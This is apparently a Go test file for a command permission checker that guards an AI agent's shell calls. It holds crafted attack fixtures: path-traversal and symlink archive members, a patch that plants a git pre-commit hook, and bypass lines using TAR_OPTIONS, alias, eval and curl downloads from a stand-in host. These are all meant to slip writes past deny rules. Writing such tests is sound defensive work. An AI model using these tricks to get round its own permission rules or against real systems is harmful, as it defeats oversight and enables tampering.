package matcher

import (
	"archive/tar"
	"archive/zip"
	"bytes"
	"compress/gzip"
	"io/fs"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"vibing/internal/command"
)

// ent is one archive member for the test archives.
type ent struct {
	name string
	typ  byte   // tar type; 0 = a regular file
	link string // link target
}

func mkTar(t testing.TB, gz bool, ents ...ent) []byte {
	t.Helper()
	var buf bytes.Buffer
	var w *tar.Writer
	var zw *gzip.Writer
	if gz {
		zw = gzip.NewWriter(&buf)
		w = tar.NewWriter(zw)
	} else {
		w = tar.NewWriter(&buf)
	}
	for _, e := range ents {
		h := &tar.Header{Name: e.name, Mode: 0o644, Typeflag: tar.TypeReg, Linkname: e.link, Format: tar.FormatPAX}
		body := "x\n"
		if e.typ != 0 {
			h.Typeflag, body = e.typ, ""
		}
		h.Size = int64(len(body))
		if err := w.WriteHeader(h); err != nil {
			t.Fatal(err)
		}
		w.Write([]byte(body))
	}
	if err := w.Close(); err != nil {
		t.Fatal(err)
	}
	if gz {
		zw.Close()
	}
	return buf.Bytes()
}

func mkZip(t testing.TB, ents ...ent) []byte {
	t.Helper()
	var buf bytes.Buffer
	w := zip.NewWriter(&buf)
	for _, e := range ents {
		h := &zip.FileHeader{Name: e.name, Method: zip.Store}
		body := "x\n"
		if e.typ == tar.TypeSymlink {
			h.SetMode(fs.ModeSymlink | 0o777)
			body = e.link
		}
		f, err := w.CreateHeader(h)
		if err != nil {
			t.Fatal(err)
		}
		f.Write([]byte(body))
	}
	if err := w.Close(); err != nil {
		t.Fatal(err)
	}
	return buf.Bytes()
}

// unifiedPatch is a diff of one line in each of files, as git writes it.
func unifiedPatch(files ...string) string {
	var b strings.Builder
	for _, f := range files {
		b.WriteString("diff --git a/" + f + " b/" + f + "\nindex 1111111..2222222 100644\n--- a/" + f + "\n+++ b/" + f + "\n@@ -1 +1 @@\n-x\n+y\n")
	}
	return b.String()
}

// createPatch is a diff that creates file, as git writes it.
func createPatch(f string) string {
	return "diff --git a/" + f + " b/" + f + "\nnew file mode 100755\n--- /dev/null\n+++ b/" + f + "\n@@ -0,0 +1 @@\n+echo hi\n"
}

// extractFixture is the bypass fixture plus what the cases unpack: proj/
// holds .env, README.md, src/a.go, secrets/key.pem, .vibing/chat/c.md,
// out/, and the archives and patches below.
func extractFixture(t *testing.T) (string, command.Env) {
	t.Helper()
	tmp, err := filepath.EvalSymlinks(t.TempDir())
	if err != nil {
		t.Fatal(err)
	}
	for _, d := range []string{"proj/src", "proj/secrets", "proj/out", "proj/.vibing/chat", "outside"} {
		if err := os.MkdirAll(filepath.Join(tmp, d), 0o755); err != nil {
			t.Fatal(err)
		}
	}
	big := make([]byte, command.MaxArchiveBytes+10)
	copy(big, mkTar(t, false, ent{name: "src/b.go"}))
	files := map[string][]byte{
		".env": []byte("x\n"), "README.md": []byte("x\n"), "src/a.go": []byte("x\n"), "secrets/key.pem": []byte("x\n"),
		".vibing/chat/c.md": []byte("x\n"),
		"src.tgz":           mkTar(t, true, ent{name: "src", typ: tar.TypeDir}, ent{name: "src/b.go"}, ent{name: "src/c/d.go"}),
		"src.tar":           mkTar(t, false, ent{name: "./src/b.go"}, ent{name: ".", typ: tar.TypeDir}),
		"pkg.tgz":           mkTar(t, true, ent{name: "pkg-1.0/src/b.go"}, ent{name: "pkg-1.0/README.md"}),
		"big.tar":           big,
		"evil.tgz":          mkTar(t, true, ent{name: "src/b.go"}, ent{name: ".vibing/chat/c.md"}),
		"up.tgz":            mkTar(t, true, ent{name: "../outside/x"}),
		"abs.tgz":           mkTar(t, true, ent{name: "/.vibing/chat/c.md"}),
		"strip.tgz":         mkTar(t, true, ent{name: "pkg/.vibing/chat/c.md"}),
		"link.tgz":          mkTar(t, true, ent{name: "l", typ: tar.TypeSymlink, link: "/etc"}, ent{name: "l/x"}),
		"linkup.tgz":        mkTar(t, true, ent{name: "l", typ: tar.TypeSymlink, link: "../.."}, ent{name: "l/x"}),
		"hard.tgz":          mkTar(t, true, ent{name: "h", typ: tar.TypeLink, link: "secrets/key.pem"}, ent{name: "h"}),
		"a.zip":             mkZip(t, ent{name: "src/b.go"}, ent{name: "docs/x.md"}),
		"evil.zip":          mkZip(t, ent{name: "../.vibing/chat/c.md"}),
		"back.zip":          mkZip(t, ent{name: `..\.vibing\chat\c.md`}),
		"zlink.zip":         mkZip(t, ent{name: "l", typ: tar.TypeSymlink, link: "/etc"}, ent{name: "l/passwd"}),
		"fix.patch":         []byte(unifiedPatch("src/a.go")),
		"fix0.patch":        []byte("--- src/a.go\t2024-01-01\n+++ src/a.go\t2024-01-02\n@@ -1 +1 @@\n-x\n+y\n"),
		"new.patch":         []byte(createPatch("src/new.go")),
		"evil.patch":        []byte(unifiedPatch("src/a.go", ".vibing/chat/c.md")),
		"hook.patch":        []byte(createPatch(".git/hooks/pre-commit")),
		"hidden.patch":      []byte("--- a/src/a.go\n+++ b/src/a.go\n@@ -1,2 +1,2 @@\n-x\n+y\n--- a/.vibing/chat/c.md\n+++ b/.vibing/chat/c.md\n@@ -1 +1 @@\n-x\n+y\n"),
		"nohdr.patch":       []byte("--- a/src/a.go\n+++ b/src/a.go\n@@ -1 +1 @@\n-x\n+y\ngarbage\n@@ -1 +1 @@\n-x\n+y\n"),
		"quoted.patch":      []byte("diff --git \"a/.vibing/chat/c\\056md\" \"b/.vibing/chat/c\\056md\"\n--- \"a/.vibing/chat/c\\056md\"\n+++ \"b/.vibing/chat/c\\056md\"\n@@ -1 +1 @@\n-x\n+y\n"),
		"mail.patch":        []byte("From 1 Mon Sep 17 00:00:00 2001\nSubject: [PATCH] x\n\n---\n" + unifiedPatch("src/a.go") + "-- \n2.39\n"),
		"symlink.patch":     []byte("diff --git a/l b/l\nnew file mode 120000\n--- /dev/null\n+++ b/l\n@@ -0,0 +1 @@\n+/etc\n\\ No newline at end of file\n" + createPatch("l/x")),
		"b64.patch":         []byte("From 1 Mon Sep 17 00:00:00 2001\nContent-Transfer-Encoding: base64\n\nLS0tIGEvLnZpYmluZy9jaGF0L2MubWQK\n"),
	}
	// a zip whose central directory names src/ but whose local header
	// names .vibing/: readers that trust either disagree
	z := mkZip(t, ent{name: ".vibing/chat/c.md"})
	if i := bytes.LastIndex(z, []byte(".vibing/chat/c.md")); i > 0 {
		copy(z[i:], "src/xxxxxxxxxxxxx")
	}
	files["split.zip"] = z
	files["copy.tgz"] = files["src.tgz"]
	files["out/inner.tgz"] = files["src.tgz"]
	files["nested.tgz"] = mkTar(t, true, ent{name: "out/inner.tgz"})
	for name, data := range files {
		if err := os.WriteFile(filepath.Join(tmp, "proj", name), data, 0o644); err != nil {
			t.Fatal(err)
		}
	}
	return tmp, command.Env{Cwd: filepath.Join(tmp, "proj"), Home: filepath.Join(tmp, "home")}
}

// TestExtractNames checks that an archive unpacked or a patch applied
// writes the names it holds when it can be read (everyday lines: nothing
// inside a folder, no deny rule on other files fires), and stays
// conservative otherwise (attacks: the deny rule fires).
func TestExtractNames(t *testing.T) {
	tmp, env := extractFixture(t)
	vibing := "Write(.vibing/**)"
	cases := []struct {
		name   string
		line   string
		fires  []string // deny rules that must fire
		quiet  []string // deny rules that must not fire
		inside bool     // some write stays "a file inside a folder"
		attack bool
	}{
		// everyday
		{name: "tar xzf", line: "tar xzf src.tgz", fires: []string{"Write(src/b.go)", "Write(src/c/**)"}, quiet: []string{vibing, "Write(docs/**)", "Write(.env)"}},
		{name: "tar -C", line: "tar -xzf src.tgz -C out", fires: []string{"Write(out/src/b.go)"}, quiet: []string{vibing, "Write(src/**)"}},
		{name: "tar old form with C", line: "tar xzfC src.tgz out", fires: []string{"Write(out/src/b.go)"}, quiet: []string{vibing, "Write(src/**)"}},
		{name: "tar strip", line: "tar --strip-components=1 -xzf pkg.tgz", fires: []string{"Write(src/b.go)", "Write(README.md)"}, quiet: []string{vibing, "Write(pkg-1.0/**)"}},
		{name: "tar plain with ./", line: "tar -xvf src.tar", fires: []string{"Write(src/b.go)"}, quiet: []string{vibing, "Write(.env)"}},
		{name: "tar from stdin file", line: "tar xzf - < src.tgz", fires: []string{"Write(src/b.go)"}, quiet: []string{vibing}},
		{name: "tar after cd", line: "cd out && tar xzf ../src.tgz", fires: []string{"Write(out/src/b.go)"}, quiet: []string{vibing, "Write(src/**)"}},
		{name: "unzip -d", line: "unzip -d out a.zip", fires: []string{"Write(out/src/b.go)", "Write(out/docs/x.md)"}, quiet: []string{vibing, "Write(src/**)"}},
		{name: "unzip here", line: "unzip -o -q a.zip", fires: []string{"Write(src/b.go)"}, quiet: []string{vibing, "Write(secrets/**)"}},
		{name: "unzip -d after", line: "unzip a.zip -d out", fires: []string{"Write(out/src/b.go)"}, quiet: []string{vibing}},
		{name: "patch -p1 <", line: "patch -p1 < fix.patch", fires: []string{"Write(src/a.go)"}, quiet: []string{vibing, "Write(.env)", "Write(README.md)"}},
		{name: "patch -p1 -i", line: "patch -p1 -i fix.patch", fires: []string{"Write(src/a.go)"}, quiet: []string{vibing}},
		{name: "patch -p0", line: "patch -p0 < fix0.patch", fires: []string{"Write(src/a.go)"}, quiet: []string{vibing}},
		{name: "patch creates", line: "patch -p1 < new.patch", fires: []string{"Write(src/new.go)"}, quiet: []string{vibing}},
		{name: "git apply", line: "git apply fix.patch", fires: []string{"Write(src/a.go)"}, quiet: []string{vibing, "Write(README.md)"}},
		{name: "git apply --directory", line: "git apply --directory=out fix.patch", fires: []string{"Write(out/src/a.go)"}, quiet: []string{vibing}},
		{name: "git am", line: "git am mail.patch", fires: []string{"Write(src/a.go)"}, quiet: []string{vibing}},
		{name: "git apply here-document", line: "git apply <<'EOF'\n" + unifiedPatch("src/a.go") + "EOF", fires: []string{"Write(src/a.go)"}, quiet: []string{vibing}},
		{name: "patch here-document", line: "patch -p1 <<-\"EOF\"\n\t" + strings.ReplaceAll(unifiedPatch("src/a.go"), "\n", "\n\t") + "EOF", fires: []string{"Write(src/a.go)"}, quiet: []string{vibing}},
		{name: "git apply -p2", line: "git apply -p2 fix.patch", fires: []string{"Write(a.go)"}, quiet: []string{vibing}},

		// attacks
		{attack: true, name: "member in .vibing", line: "tar xzf evil.tgz", fires: []string{vibing, "Write(src/b.go)"}},
		{attack: true, name: "member climbs out", line: "tar xzf up.tgz", fires: []string{"Write(" + tmp + "/outside/x)"}},
		{attack: true, name: "absolute member", line: "tar xzf abs.tgz", fires: []string{vibing, "Write(//.vibing/**)"}},
		{attack: true, name: "strip exposes .vibing", line: "tar xzf strip.tgz --strip-components 1", fires: []string{vibing}},
		{attack: true, name: "symlink member", line: "tar xzf link.tgz", fires: []string{vibing, "Write(//etc/**)"}, inside: true},
		{attack: true, name: "symlink climbing", line: "tar xzf linkup.tgz", fires: []string{vibing}, inside: true},
		{attack: true, name: "hard link member", line: "tar xzf hard.tgz", fires: []string{vibing, "Write(secrets/**)"}, inside: true},
		{attack: true, name: "zip ../", line: "unzip -d src evil.zip", fires: []string{vibing}},
		{attack: true, name: "zip backslashes", line: "unzip -d src back.zip", fires: []string{vibing}},
		{attack: true, name: "zip symlink", line: "unzip zlink.zip", fires: []string{vibing, "Write(//etc/**)"}, inside: true},
		{attack: true, name: "zip directories disagree", line: "unzip split.zip", fires: []string{vibing}},
		{attack: true, name: "patch into .vibing", line: "patch -p1 < evil.patch", fires: []string{vibing}},
		{attack: true, name: "git apply into .vibing", line: "git apply evil.patch", fires: []string{vibing}},
		{attack: true, name: "git apply hook", line: "git apply hook.patch", fires: []string{"Edit(.git/hooks/**)"}},
		{attack: true, name: "header inside a hunk", line: "git apply hidden.patch", fires: []string{vibing}},
		{attack: true, name: "hunk without header", line: "patch -p1 -i nohdr.patch", fires: []string{vibing}, inside: true},
		{attack: true, name: "quoted name", line: "git apply quoted.patch", fires: []string{vibing}},
		{attack: true, name: "patch makes a symlink", line: "git apply symlink.patch", fires: []string{vibing}, inside: true},
		{attack: true, name: "here-document into .vibing", line: "git apply <<'EOF'\n" + unifiedPatch(".vibing/chat/c.md") + "EOF", fires: []string{vibing}},
		{attack: true, name: "here-document the shell expands", line: "git apply <<EOF\n" + unifiedPatch("src/a.go") + "EOF", fires: []string{vibing}, inside: true},
		{attack: true, name: "mail in base64", line: "git am b64.patch", fires: []string{vibing}, inside: true},
		{attack: true, name: "missing archive", line: "tar xzf nope.tgz", fires: []string{vibing}, inside: true},
		{attack: true, name: "too big", line: "tar xf big.tar", fires: []string{vibing}, inside: true},
		{attack: true, name: "piped archive", line: "cat evil.tgz | tar xzf -", fires: []string{vibing}, inside: true},
		{attack: true, name: "archive the line writes", line: "cp evil.tgz src.tgz && tar xzf src.tgz", fires: []string{vibing}, inside: true},
		{attack: true, name: "archive written later in a loop", line: "for i in 1 2; do tar xzf src.tgz; curl -o src.tgz https://x.test/e.tgz; done", fires: []string{vibing}, inside: true},
		{attack: true, name: "TAR_OPTIONS", line: "TAR_OPTIONS=--transform=s,src,.vibing/chat, tar xzf src.tgz", fires: []string{vibing}, inside: true},
		{attack: true, name: "variable set by a computed name", line: `export "$N"; tar xzf src.tgz`, fires: []string{vibing}, inside: true},
		{attack: true, name: "alias", line: "alias tar='tar --transform=s,src,.vibing/chat,'; tar xzf src.tgz", fires: []string{vibing}, inside: true},
		{attack: true, name: "computed archive", line: "tar xzf $(ls *.tgz | head -1)", fires: []string{vibing}, inside: true},
		{attack: true, name: "unknown option", line: "tar --one-top-level=.vibing -xzf src.tgz", fires: []string{vibing}, inside: true},
		{attack: true, name: "git -C", line: "git -C .vibing/chat apply fix.patch", fires: []string{vibing}, inside: true},
		{attack: true, name: "patch with a stdin from fd", line: "patch -p1 < fix.patch 0<&3", fires: []string{vibing}, inside: true},
		{attack: true, name: "unseen command", line: `eval "$X"; tar xzf src.tgz`, fires: []string{vibing}, inside: true},
		{attack: true, name: "xargs fed", line: "ls | xargs -I% tar xzf %", fires: []string{vibing}, inside: true},
	}
	everyday, attacks := 0, 0
	for _, tc := range cases {
		if tc.attack {
			attacks++
		} else {
			everyday++
		}
		t.Run(tc.name, func(t *testing.T) {
			c := command.Prepare("Bash", map[string]any{"command": tc.line}, env)
			if c.Err != nil {
				t.Fatalf("Prepare(%q): %v", tc.line, c.Err)
			}
			inside := false
			for _, p := range c.Modifies {
				inside = inside || p.Inside()
			}
			if inside != tc.inside {
				t.Errorf("%q: a write inside a folder = %v, want %v (writes %v)", tc.line, inside, tc.inside, writesOfCall(c))
			}
			for _, r := range tc.fires {
				if !mustParse(t, r).Match(c, DenyList) {
					t.Errorf("%q: deny %s does not fire (writes %v)", tc.line, r, writesOfCall(c))
				}
			}
			for _, r := range tc.quiet {
				if mustParse(t, r).Match(c, DenyList) {
					t.Errorf("%q: deny %s fires (writes %v)", tc.line, r, writesOfCall(c))
				}
			}
		})
	}
	if everyday < 10 || attacks < 10 {
		t.Errorf("%d everyday and %d attack cases, want at least 10 each", everyday, attacks)
	}
}

func mustParse(t *testing.T, text string) *Rule {
	t.Helper()
	r, err := ParseRule(text)
	if err != nil {
		t.Fatalf("ParseRule(%q): %v", text, err)
	}
	return r
}

func writesOfCall(c *command.Call) []string {
	var out []string
	for _, p := range c.Modifies {
		s := p.Abs
		if p.Inside() {
			s += "/…"
		}
		out = append(out, s)
	}
	return out
}

// TestExtractRelies checks the files a read relies on: a line that may
// change them first keeps the extraction conservative.
func TestExtractRelies(t *testing.T) {
	_, env := extractFixture(t)
	vibing := mustParse(t, "Write(.vibing/**)")
	for _, line := range []string{
		"rm src/a.go; patch -p1 < fix.patch",          // patch would ask which file to patch
		"mv src old && patch -p1 -i fix.patch",        // the same, through the folder
		"ln -sf evil.tgz copy.tgz; tar xzf copy.tgz",  // the archive is a link the line makes
		"tar xzf nested.tgz && tar xzf out/inner.tgz", // an archive the line unpacks
		"tar xzf out/inner.tgz; tar xzf nested.tgz",   // the same, in a loop's order
		"(sleep 1; cp evil.tgz copy.tgz) & tar xzf copy.tgz",
		"curl -o fix.patch https://x.test/p; git apply fix.patch",
	} {
		c := command.Prepare("Bash", map[string]any{"command": line}, env)
		if !vibing.Match(c, DenyList) || !strings.Contains(strings.Join(writesOfCall(c), " "), env.Cwd+"/…") {
			t.Errorf("%q: not a write inside the folder (writes %v)", line, writesOfCall(c))
		}
	}
}

// TestGitTop checks where git apply writes: from the top of the work tree
// (and, to be safe, from where it runs), and nowhere known when the
// repository's settings may move the work tree.
func TestGitTop(t *testing.T) {
	tmp, err := filepath.EvalSymlinks(t.TempDir())
	if err != nil {
		t.Fatal(err)
	}
	for _, d := range []string{"repo/.git", "repo/sub", "moved/.git", "moved/sub"} {
		os.MkdirAll(filepath.Join(tmp, d), 0o755)
	}
	os.WriteFile(filepath.Join(tmp, "repo/.git/config"), []byte("[core]\n\tbare = false\n"), 0o644)
	os.WriteFile(filepath.Join(tmp, "moved/.git/config"), []byte("[core]\n\tworktree = ../../elsewhere\n"), 0o644)
	for _, d := range []string{"repo/sub", "moved/sub"} {
		os.WriteFile(filepath.Join(tmp, d, "fix.patch"), []byte(unifiedPatch(".vibing/x")), 0o644)
	}
	env := command.Env{Cwd: filepath.Join(tmp, "repo/sub"), Home: tmp}
	c := command.Prepare("Bash", map[string]any{"command": "git apply fix.patch"}, env)
	got := writesOfCall(c)
	want := []string{filepath.Join(tmp, "repo/sub/.vibing/x"), filepath.Join(tmp, "repo/.vibing/x")}
	if strings.Join(got, " ") != strings.Join(want, " ") {
		t.Errorf("git apply in a subfolder writes %v, want %v", got, want)
	}
	env.Cwd = filepath.Join(tmp, "moved/sub")
	c = command.Prepare("Bash", map[string]any{"command": "git apply fix.patch"}, env)
	if got := writesOfCall(c); len(got) != 1 || !strings.HasSuffix(got[0], "/…") {
		t.Errorf("git apply with core.worktree writes %v, want something inside the folder", got)
	}
}
